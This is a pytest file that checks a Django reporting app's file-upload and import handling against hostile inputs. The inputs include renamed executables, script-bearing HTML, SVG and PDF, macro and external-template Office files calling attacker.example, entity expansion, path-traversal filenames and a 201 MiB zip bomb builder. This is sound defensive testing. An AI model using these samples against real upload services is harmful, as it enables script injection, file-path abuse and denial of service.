"""Hostile files posted through the operator's item page, and a zip bomb for the importers.

The corpus is built here on the fly; no binary is committed. Each file is refused with a clear
message or stored safely under a random name inside the storage root, and nothing is ever
served inline.
"""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from indicators.models import Evidence, Submission
from indicators.seeding.demo import demo_pdf

ITEM = "III.13.a"  # a percentage item of Dinkes
ITEM_URL = f"/items/{ITEM}/?agency=DINKES"
STORED_NAME = re.compile(r"^evidence/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|png|jpg|docx|xlsx|odt|ods)$")
LIMIT = 4096


def zipped(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return buffer.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00"
    + b"\x00" * 52
    + b"\x80\x00\x00\x00"
    + b"\x00" * 64
    + b"PE\x00\x00"
)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)
JS_PDF = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"3 0 obj\n<< /S /JavaScript /JS (app.alert('x');) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n"
    b"%%EOF\n"
)
CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/>%s</Types>'
)
MACRO_TYPE = b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'  # noqa: E501
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A .rels part with (type, target, target mode) relationships."""
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(relationships, 1)
    )
    xmlns = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{xmlns}">{body}</Relationships>'.encode()


def xlsx(extra: dict[str, bytes] | None = None, types: bytes = b"") -> bytes:
    return zipped(
        {
            "[Content_Types].xml": CONTENT_TYPES % types,
            "_rels/.rels": rels(("officeDocument", "xl/workbook.xml", "")),
            "xl/workbook.xml": b"<workbook/>",
            **(extra or {}),
        }
    )


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": CONTENT_TYPES % b"",
            "_rels/.rels": rels(("officeDocument", "word/document.xml", "")),
            "word/document.xml": b"<document/>",
            **(extra or {}),
        }
    )


def odf(kind: str, extra: dict[str, bytes] | None = None, manifest: bytes = b"") -> bytes:
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b"<manifest:manifest><manifest:file-entry "
            b'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
            + kind.encode()
            + b'"/>'
            + manifest
            + b"</manifest:manifest>",
            **(extra or {}),
        }
    )


EXTERNAL_TEMPLATE = rels(("attachedTemplate", "http://attacker.example/t.dotm", "External"))
ENTITY_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    b"<Relationships>&b;</Relationships>"
)
OFFICE_REFUSED = [
    pytest.param(
        xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, MACRO_TYPE),
        "anggaran.xlsm",
        "makro",
        id="xlsm-with-vbaproject",
    ),
    pytest.param(
        xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "anggaran.xlsx", "makro", id="xlsx-vba"
    ),
    pytest.param(xlsx(types=MACRO_TYPE), "data.xlsx", "makro", id="macro-enabled-content-type"),
    pytest.param(
        docx({"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}),
        "surat.docx",
        "dari luar",
        id="docx-external-template",
    ),
    pytest.param(
        docx(
            {"word/_rels/document.xml.rels": rels(("image", "http://x.example/p.png", "External"))}
        ),
        "surat.docx",
        "dari luar",
        id="docx-external-image",
    ),
    pytest.param(
        docx({"word/_rels/document.xml.rels": ENTITY_BOMB}),
        "surat.docx",
        "dari luar",
        id="rels-with-entities",
    ),
    pytest.param(
        docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "surat.docx",
        "objek tersemat",
        id="docx-ole-object",
    ),
    pytest.param(
        docx({"word/activeX/activeX1.xml": b"<ax/>"}), "surat.docx", "objek tersemat", id="activex"
    ),
    pytest.param(
        odf("text", {"Basic/Standard/Module1.xml": b"<script/>"}),
        "surat.odt",
        "makro",
        id="odt-basic-macro",
    ),
    pytest.param(
        odf(
            "spreadsheet",
            manifest=b'<manifest:file-entry manifest:full-path="Scripts/python/x.py" '
            b'manifest:media-type="application/vnd.sun.star.script"/>',
        ),
        "data.ods",
        "makro",
        id="ods-script-in-manifest",
    ),
    pytest.param(
        odf(
            "text",
            manifest=b'<manifest:file-entry manifest:full-path="Object 1" '
            b'manifest:media-type="application/vnd.sun.star.oleobject"/>',
        ),
        "surat.odt",
        "objek tersemat",
        id="odt-ole-object",
    ),
]


@pytest.mark.parametrize(("content", "name", "reason"), OFFICE_REFUSED)
def test_office_file_with_macros_external_parts_or_objects_is_refused(
    operator_client, media, settings, content, name, reason
):
    settings.EVIDENCE_MAX_BYTES = 1024 * 1024
    response = post_file(operator_client, content, name)
    page = response.content.decode()
    assert response.status_code == 400
    assert reason in page
    assert "unggah lagi" in page  # the message says what to do
    assert not Evidence.objects.exists()
    assert files_under(media) == []


OFFICE_ACCEPTED = [
    pytest.param(
        docx(
            {
                "word/_rels/document.xml.rels": rels(
                    ("hyperlink", "https://kemenpppa.go.id/", "External"),
                    ("styles", "styles.xml", ""),
                )
            }
        ),
        "surat.docx",
        id="docx-with-a-hyperlink",
    ),
    pytest.param(
        xlsx({"xl/printerSettings/printerSettings1.bin": b"\x00" * 64}),
        "data.xlsx",
        id="xlsx-with-printer-settings",
    ),
    pytest.param(odf("spreadsheet"), "data.ods", id="plain-ods"),
]


@pytest.mark.parametrize(("content", "name"), OFFICE_ACCEPTED)
def test_ordinary_office_file_is_accepted(operator_client, media, settings, content, name):
    settings.EVIDENCE_MAX_BYTES = 1024 * 1024
    response = post_file(operator_client, content, name)
    assert response.status_code == 302, response.content.decode()[:2000]
    assert Evidence.objects.get().original_name == name


def test_a_part_that_unpacks_past_the_cap_is_refused_without_reading_it(
    operator_client, media, settings
):
    settings.EVIDENCE_MAX_BYTES = 1024 * 1024
    huge = b"<Types>" + b" " * (3 * 1024 * 1024) + b"</Types>"
    content = zipped({"[Content_Types].xml": huge, "xl/workbook.xml": b"<workbook/>"})
    assert len(content) < 64 * 1024
    response = post_file(operator_client, content, "data.xlsx")
    assert response.status_code == 400
    assert "terlalu besar" in response.content.decode()


NOT_OFFICE = zipped({"readme.txt": b"just a zip", "payload.exe": ELF})
HALF_OFFICE = zipped({"[Content_Types].xml": b"<Types/>", "docProps/app.xml": b"<x/>"})


def pdf_of(size: int) -> bytes:
    """A file of exactly `size` bytes that starts like a PDF."""
    body = demo_pdf("ukuran")
    return body + b"%" * (size - len(body))


REFUSED = [
    pytest.param(ELF, "laporan.pdf", "tidak dikenali", id="elf-renamed-pdf"),
    pytest.param(PE, "sk_walikota.pdf", "tidak dikenali", id="pe-renamed-pdf"),
    pytest.param(HTML, "data.html", "tidak dikenali", id="html-script"),
    pytest.param(HTML, "data.pdf", "tidak dikenali", id="html-renamed-pdf"),
    pytest.param(SVG, "grafik.svg", "tidak dikenali", id="svg-script"),
    pytest.param(SVG, "grafik.png", "tidak dikenali", id="svg-renamed-png"),
    pytest.param(b"", "kosong.pdf", "kosong", id="zero-byte"),
    pytest.param(pdf_of(LIMIT + 1), "besar.pdf", "terlalu besar", id="one-byte-over-limit"),
    pytest.param(NOT_OFFICE, "laporan.docx", "tidak dikenali", id="zip-claiming-docx"),
    pytest.param(HALF_OFFICE, "data.xlsx", "tidak dikenali", id="zip-half-xlsx"),
]

STORED = [
    # (content, uploaded name, the display name it must get)
    pytest.param(JS_PDF, "skrip.pdf", "skrip.pdf", id="pdf-with-javascript"),
    pytest.param(pdf_of(LIMIT), "pas.pdf", "pas.pdf", id="exactly-the-limit"),
    pytest.param(demo_pdf("x"), "../../../etc/passwd.pdf", "passwd.pdf", id="dot-dot-slash"),
    pytest.param(demo_pdf("x"), "..\\..\\win.ini.pdf", "win.ini.pdf", id="backslashes"),
    pytest.param(demo_pdf("x"), "lapor\x00an.pdf", None, id="nul"),
    pytest.param(demo_pdf("x"), "a" * 400 + ".pdf", None, id="hundreds-of-characters"),
    pytest.param(
        demo_pdf("x"), "лапорт 报告 تقرير\u202egpj.pdf", "лапорт 报告 تقريرgpj.pdf", id="non-latin"
    ),
    pytest.param(demo_pdf("x"), "surat.exe", "surat.pdf", id="pdf-named-exe"),
]


@pytest.fixture
def media(settings, tmp_path):
    """A fresh MEDIA_ROOT inside a folder nothing else writes to, and a small size limit."""
    settings.MEDIA_ROOT = tmp_path / "storage" / "media"
    settings.EVIDENCE_MAX_BYTES = LIMIT
    return tmp_path


@pytest.fixture
def operator_client(client, operator):
    client.force_login(operator)
    return client


def post_file(client, content: bytes, name: str):
    """The operator's upload: the item page form with a value and a file, saved as a draft."""
    upload = io.BytesIO(content)
    upload.name = name
    data = {"numerator": "1", "denominator": "2", "intent": "save", "version": "0"}
    return client.post(ITEM_URL, {**data, "file": upload})


def files_under(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize(("content", "name", "reason"), REFUSED)
def test_hostile_file_is_refused_on_the_item_page_with_a_clear_message(
    operator_client, media, content, name, reason
):
    response = post_file(operator_client, content, name)
    page = response.content.decode()
    assert response.status_code == 400
    assert reason in page
    if reason != "kosong":  # Django's own "empty file" message says nothing of types
        assert "Jenis yang diterima: PDF, PNG, JPEG, XLSX, DOCX, ODT, ODS" in page
    assert not Evidence.objects.exists()
    assert not Submission.objects.exists()  # the answer and its file are saved together
    assert files_under(media) == []


@pytest.mark.parametrize(("content", "name", "display"), STORED)
def test_odd_file_is_stored_under_a_random_name_inside_the_storage_root(
    operator_client, media, settings, content, name, display
):
    response = post_file(operator_client, content, name)
    assert response.status_code == 302, response.content.decode()[:2000]
    evidence = Evidence.objects.get()
    assert STORED_NAME.match(evidence.file.name)
    root = Path(settings.MEDIA_ROOT).resolve()
    written = files_under(media)
    assert written == [root / evidence.file.name]
    assert written[0].read_bytes() == content
    shown = evidence.original_name
    assert len(shown) <= 150 and shown.endswith(".pdf")
    assert not set(shown) & {"/", "\\", "\x00", "\u202e"}
    if display:
        assert shown == display


def test_pdf_with_javascript_is_only_ever_served_as_a_sandboxed_attachment(
    operator_client, media, verifier, client
):
    post_file(operator_client, JS_PDF, "skrip.pdf")
    evidence = Evidence.objects.get()
    for who in (operator_client, verifier):
        if who is verifier:
            client.force_login(verifier)
            who = client
        response = who.get(f"/evidence/{evidence.pk}/")
        assert response.status_code == 200
        assert b"".join(response.streaming_content) == JS_PDF
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["Content-Type"] == "application/pdf"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_every_stored_name_downloads_as_an_attachment(operator_client, media):
    for index, name in enumerate(["../../x.pdf", "лапорт.pdf", "a" * 300 + ".pdf"]):
        version = Submission.objects.values_list("version", flat=True).first() or 0
        upload = io.BytesIO(demo_pdf(str(index)))
        upload.name = name
        data = {"numerator": "1", "denominator": "2", "intent": "save", "version": version}
        assert operator_client.post(ITEM_URL, {**data, "file": upload}).status_code == 302
    for evidence in Evidence.objects.all():
        response = operator_client.get(f"/evidence/{evidence.pk}/")
        disposition = response["Content-Disposition"]
        assert disposition.startswith("attachment;")
        assert "/" not in disposition.split("filename", 1)[1].replace("filename*=utf-8''", "")


# ---- the importer's zip bomb -----------------------------------------------------------------


@pytest.fixture(scope="module")
def xlsx_bomb() -> bytes:
    """A workbook of ~0.2 MB that unpacks to 201 MiB: a sheet padded with blank space."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b" " * (1024 * 1024)
            for _ in range(201):
                sheet.write(chunk)
    return buffer.getvalue()


def test_zip_bomb_is_refused_by_import_values(demo, xlsx_bomb, tmp_path):
    path = tmp_path / "nilai.xlsx"
    path.write_bytes(xlsx_bomb)
    stderr = io.StringIO()
    with pytest.raises(CommandError, match="tidak ada data yang diubah"):
        call_command(
            "import_values",
            str(path),
            period=demo.period.year,
            region="balikpapan",
            stderr=stderr,
        )
    assert "zip bomb" in stderr.getvalue()
    assert len(xlsx_bomb) < 1024 * 1024
    assert not Submission.objects.exists()


def test_zip_bomb_is_refused_by_the_admin_import(client, verifier, demo, xlsx_bomb):
    client.force_login(verifier)
    upload = io.BytesIO(xlsx_bomb)
    upload.name = "nilai.xlsx"
    response = client.post(
        "/admin/indicators/submission/import/",
        {"period": demo.period.pk, "status": "submitted", "file": upload},
    )
    assert response.status_code == 200
    assert "zip bomb" in response.content.decode()
    assert "token" not in response.context  # nothing to confirm
    assert not Submission.objects.exists()
